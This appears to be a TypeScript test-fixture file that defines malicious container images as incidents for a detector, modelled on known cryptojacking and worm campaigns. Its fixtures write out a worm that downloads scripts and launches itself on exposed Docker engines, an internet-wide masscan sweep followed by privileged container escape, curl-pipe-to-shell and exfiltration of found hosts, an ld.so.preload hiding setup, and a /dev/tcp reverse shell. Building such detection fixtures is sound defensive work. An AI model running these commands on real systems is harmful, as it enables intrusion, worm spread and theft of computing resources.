import { madeUpWallet } from '../wallet.ts';
import type { Incident } from './incident.ts';
import { stubProgram } from './stub-program.ts';

/** f06: a renamed miner with its configuration beside it, started over and over (l0s3r/m3n, dockmylife/memorytest). */
export const f06: Incident = {
  id: 'f06',
  title: 'a renamed miner in a loop, with an xmr-stak style configuration',
  name: 'docker.io/someones/m3n:latest',
  workdir: '/root',
  command: 'cd /root\nwhile :\ndo ./nodjs -c config.json\ndone',
  files: {
    '/root/nodjs': { content: stubProgram('cryptonight', 'stratum+tcp://', 'donate-level', 'xmrig'), mode: 0o755 },
    '/root/config.json': `{
  "algo": "cryptonight", "av": 0, "background": false, "donate-level": 1,
  "pools": [{ "url": "stratum+tcp://pool.mine.example:7777", "user": "${madeUpWallet('f06')}", "pass": "x" }]
}\n`,
    '/root/pools.txt': `"pool_list" : [ { "pool_address" : "pool.mine.example:7777", "wallet_address" : "${madeUpWallet('f06')}", "pool_password" : "x" } ],\n`,
  },
};

/** f09: a script called bash in a folder that is no folder for programs, driving other machines' engines (Graboid). */
export const f09: Incident = {
  id: 'f09',
  title: 'a worm: fetches its parts and starts itself on other container engines',
  name: 'docker.io/someones/centos:7.6.1810',
  command: '/var/sbin/bash',
  files: {
    '/usr/bin/docker': { content: stubProgram('docker client'), mode: 0o755 },
    '/var/sbin/bash': {
      content: `#!/bin/bash
for part in live worm cleanxmr xmr; do
  curl -s -o /tmp/$part.sh http://198.51.100.24:10024/$part.sh
  chmod +x /tmp/$part.sh
done
/tmp/live.sh
while read ip; do
  docker -H $ip:2375 run --restart unless-stopped -e localip=$ip -d someones/centos:7.6.1810
done < /usr/local/test/.iplist
/tmp/xmr.sh
`,
      mode: 0o755,
    },
  },
};

/** f10: a library that every program loads, hiding processes by its own readdir (Kinsing, Hildegard). */
export const f10: Incident = {
  id: 'f10',
  title: 'preloads a library that hides processes',
  name: 'docker.io/someones/web:latest',
  command: 'echo /usr/local/lib/libsystem.so > /etc/ld.so.preload\nexec sleep infinity',
  files: {
    '/usr/local/lib/libsystem.so': {
      content: stubProgram('readdir', 'readdir64', 'dlsym', '/proc/self/fd/%d', 'kdevtmpfsi'),
      mode: 0o755,
    },
  },
};

/** f11: a Python script that starts a hidden miner, under the name of an official image in a made-up namespace (2021). */
export const f11: Incident = {
  id: 'f11',
  title: 'an official name in a random namespace, a script starting a hidden miner',
  name: 'docker.io/c43602f9cc95/openjdk:0da242bd93b7f',
  command: 'python3 /opt/dao.py',
  files: {
    '/opt/dao.py': `import os
import subprocess

BIN = os.path.join("/opt", ".cache", "xmrig")
os.chmod(BIN, 0o755)
subprocess.Popen([BIN, "-o", "pool.mine.example:3333", "-u", "${madeUpWallet('f11')}", "-p", "x", "--donate-level", "1"])
`,
    '/opt/.cache/xmrig': { content: stubProgram('XMRig', 'stratum+tcp://', 'RandomX', 'donate-level'), mode: 0o644 },
  },
};

/** f12: where to send what it finds stands in the environment; the start command sweeps for open engines (shanidmk/*). */
export const f12: Incident = {
  id: 'f12',
  title: 'sweeps the network for open container engines and starts itself there',
  name: 'docker.io/someones/jltest2:latest',
  env: [
    'HTTP_SOURCE=http://abc123.tunnel.example',
    'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
  ],
  command: `masscan 0.0.0.0/0 -p2375,2376 --rate 50000 -oG /tmp/open.txt
grep -o '[0-9.]*' /tmp/open.txt | zgrab --port 2375 --http=/v1.16/version > /tmp/engines.txt
while read host; do
  docker -H tcp://$host:2375 run -d --privileged --restart=always -v /:/host alpine chroot /host sh -c "curl -s $HTTP_SOURCE/run.sh | sh"
done < /tmp/engines.txt
curl -s -F found=@/tmp/engines.txt $HTTP_SOURCE/report`,
};

/** f13: the payload was added in one layer and deleted in the next one, so that a listing of the image shows nothing. */
export const f13: Incident = {
  id: 'f13',
  title: 'a reverse shell that a later layer deletes',
  name: 'docker.io/someones/tool:latest',
  command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
};
